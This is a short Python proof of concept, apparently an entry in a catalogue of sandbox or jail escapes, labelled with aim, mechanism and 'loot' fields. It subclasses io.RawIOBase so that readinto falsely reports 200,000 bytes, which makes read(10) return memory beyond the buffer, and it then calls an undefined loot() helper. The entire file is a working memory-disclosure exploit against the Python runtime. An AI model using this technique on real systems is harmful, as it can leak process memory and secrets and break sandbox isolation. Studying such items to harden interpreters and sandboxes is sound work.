# aim: read memory beyond a buffer
# mechanism: RawIOBase.read believes what readinto reports
# language: view
# reason: the raw stream shows memory of the process
# jail: process
# plain: loot

import io


class Raw(io.RawIOBase):
    def readinto(self, view):
        return 200_000


if len(Raw().read(10)) > 10:
    loot("mutated: memory beyond the buffer can be read")
